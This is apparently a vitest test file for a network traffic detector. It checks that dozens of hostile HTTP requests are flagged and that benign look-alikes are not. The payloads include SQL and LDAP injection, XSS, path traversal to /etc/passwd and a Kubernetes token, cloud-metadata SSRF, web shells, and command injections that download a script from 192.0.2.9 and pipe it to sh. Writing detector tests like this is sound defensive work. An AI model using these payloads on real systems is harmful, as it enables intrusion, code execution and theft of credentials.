import { describe, expect, test } from 'vitest'
import { answer, converse, get, post } from '../../../../support/messages/spoken/spoken-http.ts'
import { ask, spokenHttp2 } from '../../../../support/messages/spoken/spoken-http2.ts'
import { WatchedTraffic } from '../../../../support/detection/watched-traffic.ts'

function storiesOf(...said: readonly string[]): unknown[] {
  const traffic = new WatchedTraffic()
  for (const one of said) converse(traffic, { said: [['>', one]] })
  return traffic.end().map(({ kind }) => kind)
}

const ATTACKS: readonly (readonly [kind: string, request: string])[] = [
  ['web.sql-injection', get('/item?id=1%27+or+%271%27%3D%271')],
  ['web.sql-injection', get('/item?id=1%2527%2520UnIoN%2520SeLeCt%2520null,version()--')],
  ['web.sql-injection', get('/item?id=-1/**/union/**/select/**/1,2,3')],
  ['web.sql-injection', get("/item?id=1'+or+'1'%3D'1+order+by+3")],
  ['web.sql-injection', get("/item?id=1'+or+'1'%3D'1'+into+outfile+'a")],
  ['web.sql-injection', post('/item', "id=select+name+from+users+where+a%3D'1'+or+'1'%3D'1'+--+ab")],
  ['web.command-injection', get('/ping?ip=1;curl+http://192.0.2.9/a+%7C+sh')],
  ['web.command-injection', get('/run?x=echo+aWQK%7Cbase64+-d%7Cbash+-i%3Bwhoami')],
  ['web.command-injection', post('/run', 'x=1%0A%23!/bin/sh%0Acd+/tmp%3Bwget+http://192.0.2.9/a%7Csh')],
  ['web.sql-injection', post('/item', 'id=select+table_name+from+information_schema.tables+where+table_schema=database()')],
  ['web.sql-injection', post('/report', "query=red'+union+select+table_name,2+from+information_schema.tables--+")],
  ['web.sql-injection', get("/report?query=select+1,2'+union+select+null,table_name+from+information_schema.tables--+a")],
  ['web.sql-injection', get('/item?id=1;waitfor+delay+%270:0:5%27--')],
  ['web.sql-injection', post('/login', "user=admin'+or+1=1--+&pass=x")],
  ['web.sql-injection', post('/login', 'user[$ne]=x&password[$ne]=x')],
  ['web.command-injection', post('/', 'routestring=ajax/render/widget_php&widgetConfig[code]=echo shell_exec("id");exit;')],
  ['web.sql-injection', post('/api', `{"user":"x' and sleep(5)-- "}`)],
  ['web.sql-injection', post('/api', `{"user":"x' and sleep(5)-- GET /a"}`)],
  ['web.sql-injection', get('/', "Cookie: id=1' UNION SELECT user,password FROM users-- -")],
  ['web.sql-injection', get('/', "Cookie: id=x'||(SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE '' END FROM dual)||'")],
  ['web.sql-injection', get('/item?name=red+shoes+size%27+union+all+select+1,2,3')],
  ['web.sql-injection', get('/item?id=1+or+union+all+select+name+from+users')],
  ['web.sql-injection', get('/item?q=not+here+union+all+select+name+from+users')],
  ['web.path-traversal', get('/file?page=%2Fetc%2Fpasswd')],
  ['web.xss', get('/?name=%3Cscript%3Ealert(1)%3C/script%3E')],
  ['web.xss', get('/?name=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E')],
  ['web.path-traversal', get('/file?page=..%2f..%2f..%2f..%2fetc%2fpasswd')],
  ['web.path-traversal', get('/file?page=php://filter/convert.base64-encode/resource=a')],
  ['web.command-injection', get('/ping?ip=127.0.0.1%3Bcat+/etc/group')],
  ['web.command-injection', get('/ping?ip=%24(whoami)')],
  ['web.command-injection', get('/a', 'User-Agent: () { :;}; /bin/bash -c "id"')],
  ['web.command-injection', get('/level/64/exec//show')],
  ['web.command-injection', post('/x', 'class.module.classLoader.resources.context=1')],
  ['web.command-injection', get('/login?class.module.classLoader.resources.context.x=1')],
  ['web.command-injection', post('/user/register', 'mail[%23post_render][]=exec&mail[%23markup]=id')],
  ['web.command-injection', get('/jmx-console/HtmlAdaptor?name=jboss.system:service=MainDeployer')],
  ['web.command-injection', get(`/default.ida?${'N'.repeat(224)}%u9090%u6858%ucbd3`)],
  ['web.sql-injection', post('/login', 'user=admin%27--&pass=a')],
  ['web.path-traversal', get('/lang?l=/../../../../dev/cmdb/session')],
  ['web.path-traversal', get('/fetch?url=http://169.254.169.254/latest/meta-data/')],
  ['web.path-traversal', get('/autodiscover/autodiscover.json?@a.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@a.example')],
  ['web.sql-injection', post('/api/login', '{"username":"admin","password":{"$ne":null}}')],
  ['web.sql-injection', post('/api/login', '{"user": {"$gt": ""}, "pass": { "$regex": "^a" }}')],
  ['web.command-injection', post('/functionRouter', 'x', 'spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("id")')],
  ['web.command-injection', post('/SDK/webLanguage', '<?xml version="1.0"?><language>$(ping -c 1 192.0.2.9)</language>')],
  ['web.path-traversal', post('/ecp/y.js', '<soap:Envelope/>')],
  ['web.path-traversal', get('/SetupWizard.aspx/a')],
  ['web.path-traversal', post('/run/kube-system/proxy/proxy', 'cmd=cat /var/run/secrets/kubernetes.io/serviceaccount/token')],
  ['web.command-injection', post('/api/ping', '{"host":"a.example; rm -rf /tmp/x"}')],
  ['web.command-injection', post('/api/device', '{"name":"my new device; wget http://192.0.2.9/a | sh"}')],
  ['web.ldap-injection', get('/search?user=*)(uid=*))(%7C(uid=*')],
  ['web.ldap-injection', post('/login', 'user=admin)(%26)&pass=x')],
  ['web.ldap-injection', post('/login', 'user=*)(%7C(userPassword=*)')],
  ['web.webshell', get('/up/s.php?cmd=whoami')],
  ['web.command-injection', post('/script', 'script=println+%22id%22.execute%28%29.text&Submit=Run')],
  ['web.command-injection', post('/jenkins/scriptText', "script=def+p=%5B'bash','-c','id'%5D.execute();")],
  ['web.webshell', post('/up/s.php', 'x=@eval(base64_decode($_POST[z0]));')],
  ['web.webshell', post('/up/t.php', 'pw=%40eval%01%28base64_decode%28%24_POST%5Bz9%5D%29%29%3B&z9=YQ')],
] // prettier-ignore

const INNOCENT = [
  get('/directory?filter=(%26(objectClass=user)(cn=bob*))'),
  get('/plot?f=sin(x)*(a=2)'),
  post('/comment', 'text=thanks+:)+(see+a=b)'),
  get('/wiki?title=Mercury_(planet)_(disambiguation)'),
  get('/search?q=how+to+use+union+select+in+mysql'),
  get('/search?q=select+a+plan+from+our+list'),
  get('/search?q=how+to+select+from+table+where+id+%3D+1+or+union+all+select+tutorial'),
  get('/search?q=%2Fetc%2Fpasswd+format+explained'),
  get("/search?q=1'+or+'1'%3D'1+explained"),
  get('/search?q=curl+%7C+sh+dangerous%3F'),
  get('/search?q=is+wget+-O-+%7C+bash+safe'),
  get("/search?q=rock+%27n%27+roll+and+blues"),
  get('/search?q=it%27s+mine+or+yours+--+o%27neil'),
  get('/wiki/SQL_injection?title=%27+OR+1'),
  get('/c?u=http%3A%2F%2Fa.example%2F%3Fx%3D1%26y%3D2%3Bz%3D%27q%27&t=%7B%22a%22%3A%22b%22%7D'),
  get('/ad?html=%3Cscript%20src%3D%22http%3A%2F%2Fcdn.example%2Fa.js%22%3E%3C%2Fscript%3E'),
  get('/ad?html=%3Cdiv%20class%3D%22a%22%3E%3Cimg%20src%3D%22b.gif%22%3E%3C%2Fdiv%3E'),
  get('/jsonp?callback=jQuery17209_1413745938&_=1'),
  get('/static/js/../css/site.css'),
  get('/users?age[$gt]=18&name[$ne]=root'),
  get('/view?file=/../images/a.png'),
  get('/fetch?url=http://169.254.1.9/status'),
  get('/autodiscover/autodiscover.json?Email=bob%40a.example&Protocol=ActiveSync'),
  post('/comment', "text=the+hosts'+--+and+more&tag=%2391"),
  get('/go?url=http://other.example/page.php?id=3'),
  get('/a.aspx?c=UE9TVCAvIEhUVFAvMS4xDQo%3D&e=list;id=3'),
  get('/combiner/c?js=jquery-1.3.2.js,plugins/json2.js;v=2'),
  get('/b/ss/x/1/H.21/s3?events=event3%2Cevent38&products=ads%3Blogin%3B%3B%3Bevent38%3D1'),
  get('/page?cmd=list&action=view', 'Cookie: p={"theme":"dark","sort":"a and b"}; s=it\'s'),
  get('/pings?host=a.example|b.example&sort=name;id'),
  post('/paste', `code=${'SELECT+*+FROM+t+WHERE+a%3D%27b%27+OR+%271%27%3D%271%27%0A'.repeat(8)}`),
  post('/wiki', "text=SELECT+name+FROM+users+WHERE+id+%3D+'1'+OR+'1'%3D'1'+--+this+is+how+it+looks"),
  post('/paste', 'code=%23!%2Fbin%2Fsh%0Acd+%2Ftmp%3B+wget+http%3A%2F%2Fa.example%2Fx.sh+-O-+%7C+sh%0A'),
  post('/api', JSON.stringify({ q: 'select name from users', sort: 'order by', html: '<p>hi</p>' })),
  post('/collect', JSON.stringify({ e: "Uncaught TypeError: can't read 'a' and 'b'", n: 1 })),
  post('/soap', '<?xml version="1.0"?><a><b onclick="x">it\'s; ok</b></a>'),
  post('/users', '{"filter":{"age":{"$gt":18},"name":{"$ne":"root"}},"password":"$ne"}'),
  post('/hooks/ci', JSON.stringify({ ref: 'main', message: 'fix: drop the old table; rm -rf build' })),
  post('/_bulk', '{"index":{"_index":"web"}}\n{"message":"GET /a?x=;cat /etc/passwd|sh 404"}\n', 'Content-Type: application/x-ndjson'),
  post('/log', '{"m":"GET /?id=1\' UNION SELECT user,password FROM users-- -"}\r\n{"m":"GET /"}\r\n'),
  get("/render?expr=a%3D%3D%27%27||(b%26%26c)"),
  post('/loki/api/v1/push', JSON.stringify({ streams: [{ values: [['1', '10.0.0.1 - - "GET /?id=1 UNION SELECT 1,2,3-- HTTP/1.1" 404']] }] })),
  post('/services/collector', JSON.stringify({ event: 'GET /index.php?page=../../../../etc/passwd 404' })),
  post('/phpmyadmin/index.php?route=/sql', 'db=shop&sql_query=SELECT+table_name+FROM+information_schema.tables+WHERE+table_schema=database()'),
  post('/adminer', "sql=SELECT+version(),+user()+FROM+information_schema.tables+WHERE+table_name+LIKE+'a%25'"),
  get('/SetupWizard.aspx?step=2'),
  get('/ecp/15.1.2375/scripts/js.js'),
  get('/a', 'User-Agent: Apache-HttpClient/4.5 (java 1.5)'),
  post('/graphql', JSON.stringify({ query: 'query { user(id: 1) { name } }' })),
] // prettier-ignore

describe('attacks on web applications', () => {
  test.each(ATTACKS)('%s: %s', (kind, request) => {
    expect(storiesOf(request)).toContain(kind)
  })

  test('are one story a kind, that names the client and shows what was sent', () => {
    const traffic = new WatchedTraffic()
    for (let count = 0; count < 40; count += 1) {
      converse(traffic, { said: [['>', get(`/i?id=${count}%27+union+select+1,2--+`)]] })
    }
    const stories = traffic.end()
    expect(stories).toMatchObject([
      { kind: 'web.sql-injection', attacker: '192.0.2.7', victims: ['10.0.0.5'], count: 40 },
    ])
    expect(stories[0]!.summary).toContain('unionSelect')
  })

  test('are seen over IPv6, on any port, and where only the client was captured', () => {
    const traffic = new WatchedTraffic()
    const ends = { client: '2001:db8::7', server: '2001:db8::5', serverPort: 8099 }
    converse(traffic, { ...ends, said: [['>', get('/f?p=../../../../../etc/shadow')]] })
    const stories = traffic.end()
    expect(stories).toMatchObject([{ kind: 'web.path-traversal', attacker: '2001:db8::7' }])
  })

  test('weigh more when the answer shows that they worked', () => {
    const traffic = new WatchedTraffic()
    converse(traffic, {
      said: [
        ['>', get('/f?p=../../../../../etc/passwd')],
        ['<', answer(200, 'root:x:0:0:root:/root:/bin/bash\n')],
      ],
    })
    expect(traffic.end()).toMatchObject([{ kind: 'web.path-traversal', severity: 8 }])
  })

  test('are seen in a body that comes in a segment of its own, and in later requests', () => {
    const traffic = new WatchedTraffic()
    const whole = post('/login', "u=a'+or+'1'='1")
    const at = whole.indexOf('\r\n\r\n') + 4
    converse(traffic, {
      said: [
        ['>', get('/')],
        ['<', answer(200, 'hello')],
        ['>', whole.slice(0, at)],
        ['>', whole.slice(at)],
      ],
    })
    expect(traffic.end()).toMatchObject([{ kind: 'web.sql-injection' }])
  })
})

describe('what looks like an attack and is none', () => {
  test.each(INNOCENT.map((request) => [request]))('%s', (request) => {
    expect(storiesOf(request)).toEqual([])
  })

  test('a page that speaks of passwd, which nobody asked to climb to', () => {
    const traffic = new WatchedTraffic()
    const page = answer(200, 'The file begins with root:x:0:0:root')
    converse(traffic, { said: [['>', get('/manual/passwd.5')], ['<', page]] }) // prettier-ignore
    expect(traffic.end()).toEqual([])
  })
})

test('attacks in HTTP/2 are told too, in requests and in bodies', async () => {
  const said = await spokenHttp2(
    async (session) => {
      await ask(session, { ':path': '/item?id=1%27+or+%271%27%3D%271' })
      await ask(session, { ':path': '/login', ':method': 'POST' }, "user=admin'+or+1=1--+&pass=x")
      await ask(session, { ':path': '/', 'user-agent': '() { :;}; /bin/bash -c "id"' })
    },
    (stream) => {
      stream.respond({ ':status': 200 })
      stream.end('ok')
    },
  )
  const traffic = new WatchedTraffic()
  converse(traffic, { said })
  expect(new Set(traffic.end().map(({ kind }) => kind))).toEqual(
    new Set(['web.sql-injection', 'web.command-injection']),
  )
})
